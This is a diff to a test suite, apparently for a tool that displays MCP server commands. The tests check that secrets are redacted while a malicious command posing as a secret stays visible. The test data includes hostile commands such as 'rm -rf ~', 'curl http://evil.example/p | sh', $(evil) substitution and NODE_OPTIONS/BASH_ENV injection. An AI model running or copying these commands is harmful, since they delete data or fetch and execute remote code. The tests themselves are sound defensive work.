@@ -78,6 +78,9 @@ describe('what is shown', () => {
     [{ command: 'x', args: ['--token', 'pre-s3cret-value-${input:token}'] }],
     [{ command: 'x', args: ['https://user:s3cret-value@example.com/'] }],
     [{ command: 'x', args: ['ghp_s3cret0value0s3cret0value0s3cret0v4l'] }],
+    [{ command: 'x', args: ['API_KEY=s3cret-value'] }],
+    [{ command: 'docker', args: ['run', '-e', 'API_KEY=s3cret-value', 'image:1'] }],
+    [{ command: 'x', env: { OPTIONS: 'verbose;token=s3cret-value' } }],
     [{ command: 'x', env: { GITHUB_TOKEN: 's3cret-value' } }],
     [{ command: 'x', env: { DATABASE_URL: 'postgres://u:s3cret-value@h/db' } }],
     [{ url: 'https://example.com/mcp?api_key=s3cret-value&x=1' }],
@@ -88,6 +91,40 @@ describe('what is shown', () => {
   ])('is no secret: %j', (entry) => {
     const { commandLine, facts } = run(entry, input);
     expect(JSON.stringify({ commandLine, facts })).not.toMatch(/s3cret/);
+  });
+
+  it.each([
+    ['node', ['-e', 'secret=1;require("child_process").execSync("rm -rf ~")'], 'rm -rf ~'],
+    ['node', ['--eval', '({"password":"evil()"})'], 'evil()'],
+    ['ruby', ['-e', 'token=%x/curl,evil/'], '%x/curl,evil/'],
+    ['sudo', ['-u', 'x', 'ruby', '-e', 'token=%x/evil/'], '%x/evil/'],
+    ['python3', ['-c', 'password=1\nimport os;os.system("evil")'], 'os.system'],
+    ['sh', ['-c', 'API_KEY=x; curl http://evil.example/p | sh'], 'curl http://evil.example/p | sh'],
+    ['sh', ['-c', 'token=aaaa|evil'], '|evil'],
+    ['bash', ['-lc', 'export API_KEY=abc && run-server --x'], '&& run-server --x'],
+    ['sh', ['-c', 'x?token=;curl${IFS}evil|sh'], ';curl${IFS}evil|sh'],
+    ['sh', ['-c', '//;curl${IFS}evil|sh;@h'], ';curl${IFS}evil|sh;@h'],
+    ['sh', ['-c', 'x://a:;evil|sh;@b'], ';evil|sh;'],
+    ['sh', ['-c', '-----BEGIN PRIVATE KEY-----; evil'], '; evil'],
+    ['x', ['--token', '$(evil)'], '$(evil)'],
+    ['x', ['TOKEN=a;evil'], 'a;evil'],
+    ['npx', ['--token', 'evil-package@1'], 'evil-package@1'],
+    ['npx', ['--token', 'evil-package'], 'evil-package'],
+    ['env', ['TOKEN=abcdefgh', 'evil-program'], 'evil-program'],
+    ['node', ['--token', './evil.js'], './evil.js'],
+    ['node', ['--password', 'evil.mjs'], 'evil.mjs'],
+    ['uv', ['run', '--token', '/opt/x/evil'], '/opt/x/evil'],
+    ['x', ['--secret=https://evil.example/x.sh'], 'https://evil.example/x.sh'],
+  ])('is all that runs, whatever secret it poses as: %s %j', (command, args, part) => {
+    const { commandLine, facts } = run({ command, args });
+    expect(commandLine.replaceAll('\\"', '"')).toContain(part);
+    expect(facts.find(({ field }) => field === 'args')?.text.replaceAll('\\"', '"')).toContain(part);
+  });
+
+  it('is what a variable runs, too', () => {
+    const { facts } = run({ command: 'x', env: { NODE_OPTIONS: '--require token=./evil.js', BASH_ENV: 'x?token=$(evil)' } });
+    expect(facts.find(({ field }) => field === 'env.NODE_OPTIONS')?.text).toContain('./evil.js');
+    expect(facts.find(({ field }) => field === 'env.BASH_ENV')?.text).toContain('$(evil)');
   });
 
   it('hides nothing by characters that are not seen or turn the text around', () => {
